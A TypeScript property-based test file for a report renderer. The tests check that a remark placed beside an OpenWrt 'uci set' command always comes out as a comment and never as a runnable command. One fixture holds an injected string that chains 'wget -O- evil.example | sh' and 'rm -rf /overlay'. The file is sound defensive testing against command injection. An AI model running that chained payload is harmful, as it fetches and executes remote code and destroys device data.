import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { remedyRows } from '../../src/report/text/commands.ts';

/** The rows of one `uci set` with a remark, as text. */
function rowsFor(remark: string, width: number): string[] {
  const step = {
    type: 'command',
    command: { words: ['uci', 'set', "network.modem.apn='fast.t-mobile.com'"], holes: [] },
    remark,
  } as const;
  return remedyRows({ width, unicode: true, verbose: false }, [step]).map((row) =>
    row.map(({ text }) => text).join(''),
  );
}

describe('a remark from the input beside a command to copy', () => {
  it('is a comment on every row', () => {
    const value = "was 'none ; reboot ; wget -O- evil.example | sh ; rm -rf /overlay ; reboot ; reboot # x'";
    const rows = rowsFor(value, 80);
    expect(rows.length).toBeGreaterThan(2);
    for (const row of rows.slice(0, -1)) expect(row).toMatch(/^ {6}# /);
    expect(rows.at(-1)?.trim()).toBe("uci set network.modem.apn='fast.t-mobile.com'");
  });

  it('is never a command, whatever it says and however wide the page is', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: 'binary-ascii', maxLength: 300 }),
        fc.integer({ min: 60, max: 120 }),
        (words, width) => {
          const commands = rowsFor(words, width).filter((row) => !/^\s*#/.test(row));
          expect(commands.map((row) => row.replace(/\s+#.*$/s, '').trim())).toEqual([
            "uci set network.modem.apn='fast.t-mobile.com'",
          ]);
        },
      ),
    );
  });
});
